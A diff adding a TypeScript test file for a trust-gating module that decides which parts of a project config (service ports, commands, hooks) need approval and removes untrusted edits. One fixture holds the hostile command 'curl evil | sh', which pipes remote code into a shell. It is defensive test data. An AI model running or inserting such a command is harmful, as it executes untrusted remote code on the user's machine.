@@ -1,0 +1,82 @@
+/** What of a project file needs trust, and what is left of it without. */
+import assert from 'node:assert/strict';
+import * as fc from 'fast-check';
+import { type DeclaringFile, trustedParts, trustedView } from '#discovery/trusted-parts.ts';
+
+const file = {
+  $schema: 'x',
+  version: 1,
+  name: 'shop',
+  services: {
+    web: { type: 'dev', port: 3000, command: 'npm run dev', main: true, startTimeout: 60 },
+    db: { type: 'database' },
+  },
+};
+
+const ids = (of: DeclaringFile) => trustedParts(of).map(({ id }) => id);
+const hashes = (of: DeclaringFile) => new Set(trustedParts(of).map(({ hash }) => hash));
+
+describe('The parts of a project file', () => {
+  it('are each service’s port and command, and nothing that only names or waits', () => {
+    assert.deepEqual(ids(file), ['services.web.port', 'services.web.command', 'services.db.port']);
+  });
+
+  it('are whatever else stands there, also what a later version brings', () => {
+    const more = { ...file, extends: '../team', mode: 'project', types: { x: {} }, hooks: ['rm'] };
+    assert.deepEqual(
+      trustedParts(more)
+        .slice(0, 4)
+        .map(({ id, kind, words }) => [id, kind, words]),
+      [
+        ['extends', 'redirect', '../team'],
+        ['mode', 'redirect', 'project'],
+        ['types', 'listen', '{"x":{}}'],
+        ['hooks', 'change', '["rm"]'],
+      ],
+    );
+  });
+
+  it('are known by what they say and where, and not by the order in which it is written', () => {
+    const { web, db } = file.services;
+    const turned = {
+      services: { db, web: { command: web.command, port: web.port, type: web.type } },
+    };
+    assert.deepEqual(hashes(turned), hashes(file));
+    const swapped = { services: { web: { ...db, command: web.command }, db: web } };
+    assert.equal([...hashes(swapped)].filter((hash) => hashes(file).has(hash)).length, 1);
+  });
+
+  it('are asked for anew one by one: what was not changed stays trusted', () => {
+    const changed = {
+      ...file,
+      services: { ...file.services, web: { ...file.services.web, command: 'curl evil | sh' } },
+    };
+    const { file: left, untrusted } = trustedView(changed, hashes(file));
+    assert.deepEqual(
+      untrusted.map(({ id, words }) => [id, words]),
+      [['services.web.command', 'curl evil | sh']],
+    );
+    assert.deepEqual(left.services.web, { ...file.services.web, command: undefined });
+    assert.deepEqual(left.services.db, file.services.db);
+  });
+
+  it('that are not trusted are not there, whatever the file says', () => {
+    const command = fc.option(fc.string({ minLength: 1 }), { nil: undefined });
+    const port = fc.option(fc.integer({ min: 1, max: 65_535 }), { nil: undefined });
+    const service = fc.record({ command, port });
+    const anyFile = fc.record({
+      services: fc.dictionary(fc.stringMatching(/^[a-z]{1,8}$/), service),
+    });
+    fc.assert(
+      fc.property(anyFile, fc.func(fc.boolean()), (any, chosen) => {
+        const all = trustedParts(any);
+        const trusted = new Set(all.filter(({ hash }) => chosen(hash)).map(({ hash }) => hash));
+        const { file: left, untrusted } = trustedView(any, trusted);
+        assert.equal(untrusted.length, all.length - all.filter((p) => trusted.has(p.hash)).length);
+        for (const { hash, id } of trustedParts(left))
+          if (trusted.has(hash)) continue;
+          else assert.fail(`${id} is there`);
+      }),
+    );
+  });
+});
